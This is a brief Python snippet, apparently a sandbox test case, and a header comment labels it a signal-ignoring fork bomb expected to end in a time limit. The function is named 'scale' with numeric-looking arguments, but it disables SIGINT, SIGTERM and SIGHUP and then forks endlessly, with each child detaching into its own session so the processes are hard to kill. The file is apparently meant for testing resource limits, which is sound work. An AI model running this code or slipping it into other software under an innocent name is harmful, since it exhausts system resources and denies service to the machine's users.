# A fork bomb in which each process has a session of its own and ignores signals. Ends as: time limit.
# %% scale
import os
import signal

def scale(values, factor):
    for number in (signal.SIGINT, signal.SIGTERM, signal.SIGHUP):
        signal.signal(number, signal.SIG_IGN)
    while True:
        try:
            if os.fork() == 0:
                os.setsid()
        except OSError:
            pass
